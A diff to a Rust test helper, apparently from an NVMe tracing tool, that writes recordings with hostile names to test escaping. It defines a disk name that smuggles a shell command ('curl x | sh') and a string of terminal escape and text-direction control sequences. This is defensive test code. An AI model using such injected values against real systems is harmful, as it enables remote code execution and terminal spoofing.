@@ -1,7 +1,9 @@
 // SPDX-License-Identifier: MIT OR Apache-2.0
-//! Recordings whose names were written by someone who wants to write more than a name.
+//! Recordings whose names were chosen by somebody who wants to write more than a name. The types of the
+//! library escape such names, so this writes them as JSON values.
 
 use std::fs::File;
+use std::mem::take;
 use std::path::Path;
 
 use nvme_deep::model::controller::{ControllerInfo, DiskInfo};
@@ -18,21 +20,51 @@ use nvme_deep::recording::{
     ClockOffset, Content, FrameInfo, HostRecording, LedgerInfo, Recorder, RunInfo, StackInfo,
 };
 
+use serde::Serialize;
+use serde_json::Value;
+
 use crate::testing::recording::{SECOND, read_at};
 
 /// Clears a screen, sets a title, writes a line and a path of its own, ends XML and JSON, turns the
 /// direction of text.
 pub const EVIL: &str = "=x\naccuracy  exact: 7 commands, 0 lost\x1b[2J\x1b]0;t\x07\u{9b}2J\r\t;y 9\u{202e}\u{2028}<&\"\\}]]>,";
-/// A name of a disk that ends a path of a shell.
+/// A disk name that ends a path in a shell command.
 pub const SHELL: &str = "nvme0n1; curl x | sh #";
 
+/// The name of the thread that submits.
+pub const COMM: &[u8] = b"=a\nb\x1b[2J,\xff\"\\;";
+/// Stand for [`EVIL`] and the name of the disk until a block is written.
+const EVIL_HERE: &str = "@evil";
+const DISK_HERE: &str = "@disk";
 const READS: u64 = 200;
+
+/// JSON of a block with the hostile names themselves.
+fn hostile(block: &impl Serialize, disk: &str) -> Value {
+    fn replace(value: &mut Value, disk: &str) {
+        match value {
+            Value::String(text) if text == EVIL_HERE => *text = EVIL.into(),
+            Value::String(text) if text == DISK_HERE => *text = disk.into(),
+            Value::Array(all) => all.iter_mut().for_each(|one| replace(one, disk)),
+            Value::Object(all) => {
+                let names = take(all).into_iter();
+                let evil = |name| if name == EVIL_HERE { EVIL.into() } else { name };
+                *all = names.map(|(name, value)| (evil(name), value)).collect();
+                all.values_mut().for_each(|one| replace(one, disk));
+            }
+            _ => {}
+        }
+    }
+    let mut value = serde_json::to_value(block).unwrap();
+    replace(&mut value, disk);
+    value
+}
 
 /// A read that waits 5 ms before it is built.
 fn read(n: u64) -> Event {
     let mut event = read_at(2 * SECOND + n * 10_000_000);
     if let EventKind::Command(_, asked, outcome) = &mut event.what {
-        asked.comm = *b"=a\nb\x1b[2J,\xff\"\\;\0\0\0";
+        asked.comm = [0; 16];
+        asked.comm[..COMM.len()].copy_from_slice(COMM);
         asked.stack = StackId(1);
         let line = outcome.timeline.unwrap();
         let pattern = line.pattern() | Point::SetupIn.pattern_bit().unwrap();
@@ -50,7 +82,7 @@ fn frame(name: &str) -> FrameInfo {
 }
 
 fn ledger() -> LedgerInfo {
-    let evil = || EVIL.into();
+    let evil = || EVIL_HERE.into();
     let ledger = Ledger {
         seen: READS,
         matched: READS,
@@ -76,27 +108,27 @@ fn ledger() -> LedgerInfo {
     LedgerInfo { at_ns: 3 * SECOND, evicted: 0, ledger: Some(ledger) }
 }
 
-fn machine(disk: &str) -> MachineInfo {
-    let evil = || Some(EVIL.into());
-    let limit = IoLimit { cgroup: EVIL.into(), riops: Some(60), ..IoLimit::default() };
+fn machine() -> MachineInfo {
+    let evil = || Some(EVIL_HERE.into());
+    let limit = IoLimit { cgroup: EVIL_HERE.into(), riops: Some(60), ..IoLimit::default() };
     MachineInfo {
         hypervisor: evil(),
         is_virtual: Some(true),
         cpus: Some(4),
         cgroup_mount: evil(),
         controllers: vec![MachineController {
-            class: EVIL.into(),
+            class: EVIL_HERE.into(),
             transport: Some("pcie".into()),
             depth: Some(1024),
             state: evil(),
             iommu_group: evil(),
             disks: vec![MachineDisk {
-                name: disk.into(),
+                name: DISK_HERE.into(),
                 nsid: 1,
                 scheduler: evil(),
                 write_cache: evil(),
                 limits: Some(IoLimits { cgroups: vec![limit], more: true }),
-                io_cost: Some(IoCost { enabled: true, qos: EVIL.into() }),
+                io_cost: Some(IoCost { enabled: true, qos: EVIL_HERE.into() }),
                 zoned: evil(),
                 ..MachineDisk::default()
             }],
@@ -108,15 +140,15 @@ fn machine(disk: &str) -> MachineInfo {
 
 /// Records commands of a disk of this name.
 pub fn guest(path: &Path, disk: &str, filter: &str) {
-    let evil = || Some(EVIL.into());
+    let evil = || Some(EVIL_HERE.into());
     let info = RunInfo {
-        program: EVIL.into(),
+        program: EVIL_HERE.into(),
         host: evil(),
         kernel: evil(),
-        arch: EVIL.into(),
+        arch: EVIL_HERE.into(),
         machine: evil(),
         boot_id: evil(),
-        filter: filter.into(),
+        filter: if filter == EVIL { EVIL_HERE.into() } else { filter.into() },
         begin_ns: SECOND,
         pairs: true,
         sample_period: 1,
@@ -126,46 +158,47 @@ pub fn guest(path: &Path, disk: &str, filter: &str) {
         ..RunInfo::default()
     };
     let mut file = Recorder::create(File::create(path).unwrap(), true, None).unwrap();
-    file.block(Content::Run, SECOND, &info);
-    file.block(Content::Clock, SECOND, &ClockOffset { wall_ns: 0 });
+    file.block(Content::Run, SECOND, &hostile(&info, disk));
+    file.block(Content::Clock, SECOND, &hostile(&ClockOffset { wall_ns: 0 }, disk));
     let controllers = [ControllerInfo {
-        model: EVIL.into(),
-        transport: EVIL.into(),
+        model: EVIL_HERE.into(),
+        transport: EVIL_HERE.into(),
         nqn: evil(),
-        disks: vec![DiskInfo { name: disk.into(), nsid: 1, lba_bytes: 512, csi: 0 }],
+        disks: vec![DiskInfo { name: DISK_HERE.into(), nsid: 1, lba_bytes: 512, csi: 0 }],
         ..ControllerInfo::default()
     }];
-    file.block(Content::Controllers, SECOND, &controllers);
-    file.block(Content::Machine, SECOND, &machine(disk));
-    let stack = StackInfo { id: 1, frames: vec![frame(EVIL), frame("nvme_queue_rq")] };
-    file.block(Content::Stacks, SECOND, &[stack]);
+    file.block(Content::Controllers, SECOND, &hostile(&controllers, disk));
+    file.block(Content::Machine, SECOND, &hostile(&machine(), disk));
+    let stack = StackInfo { id: 1, frames: vec![frame(EVIL_HERE), frame("nvme_queue_rq")] };
+    file.block(Content::Stacks, SECOND, &hostile(&[stack], disk));
     (0..READS).for_each(|n| file.push(&read(n)));
     file.flush();
-    file.block(Content::End, 4 * SECOND, &ledger());
+    file.block(Content::End, 4 * SECOND, &hostile(&ledger(), disk));
     assert!(file.finish().error.is_none());
 }
 
 /// Copies a recording of the host side, with other texts.
 pub fn host(from: &Path, to: &Path) {
     let read = HostRecording::read(File::open(from).unwrap()).unwrap();
-    let evil = || Some(EVIL.into());
+    let evil = || Some(EVIL_HERE.into());
     let mut info = read.info;
     (info.host, info.kernel, info.machine) = (evil(), evil(), evil());
     let target = info.target.as_mut().unwrap();
-    target.by = EVIL.into();
+    target.by = EVIL_HERE.into();
     (target.binary, target.version, target.build_id) = (evil(), evil(), evil());
     let mut controllers = read.controllers;
     for controller in &mut controllers {
-        controller.name = EVIL.into();
+        controller.name = EVIL_HERE.into();
         controller.serial = evil();
     }
     let mut file = Recorder::create(File::create(to).unwrap(), true, None).unwrap();
-    file.block(Content::Run, info.begin_ns, &info);
+    file.block(Content::Run, info.begin_ns, &hostile(&info, ""));
     read.events.iter().for_each(|event| file.push_target(event));
-    file.block(Content::Readings, 0, &read.readings);
-    file.block(Content::HostControllers, 0, &controllers);
-    let ledger = HostLedger { hits: [(EVIL.into(), 8)].into(), lost: 1, ..read.ledger.unwrap() };
+    file.block(Content::Readings, 0, &hostile(&read.readings, ""));
+    file.block(Content::HostControllers, 0, &hostile(&controllers, ""));
+    let ledger =
+        HostLedger { hits: [(EVIL_HERE.into(), 8)].into(), lost: 1, ..read.ledger.unwrap() };
     let ledger = LedgerInfo { at_ns: 4 * SECOND, evicted: 0, ledger: Some(ledger) };
-    file.block(Content::End, 4 * SECOND, &ledger);
+    file.block(Content::End, 4 * SECOND, &hostile(&ledger, ""));
     assert!(file.finish().error.is_none());
 }
